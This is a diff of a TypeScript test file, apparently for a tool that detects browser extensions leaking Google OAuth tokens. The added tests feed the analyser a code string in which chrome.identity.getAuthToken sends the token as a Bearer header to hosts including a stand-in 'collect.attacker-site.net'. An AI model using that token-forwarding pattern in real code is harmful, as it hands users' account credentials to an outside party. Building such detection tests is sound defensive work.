@@ -48,6 +48,17 @@ describe('the theft floor', () => {
     assert.equal(pageHost('input[name=q]'), undefined);
   });
 
+  for (const [host, seen] of [
+    ['www.googleapis.com', undefined],
+    ['storage.googleapis.com', 'storage.googleapis.com'],
+    ['collect.attacker-site.net', 'collect.attacker-site.net'],
+  ] as const)
+    it(`sees ${seen === undefined ? 'none of' : ''} a token of Google's that leaves for ${host}`, () => {
+      const use = `chrome.identity.getAuthToken({}, (token) => fetch('https://${host}/drive/v3/files', { headers: { Authorization: 'Bearer ' + token } }));`;
+      const oauth2 = { client_id: '7', scopes: [] };
+      assert.equal(hostOf(use, { permissions: ['identity'], oauth2 }), seen);
+    });
+
   for (const [why, manifest] of [
     ['the homepage', { homepage_url: 'https://attacker-site.net/about' }],
     ['a site that the manifest names', { host_permissions: ['https://*.attacker-site.net/*'] }],
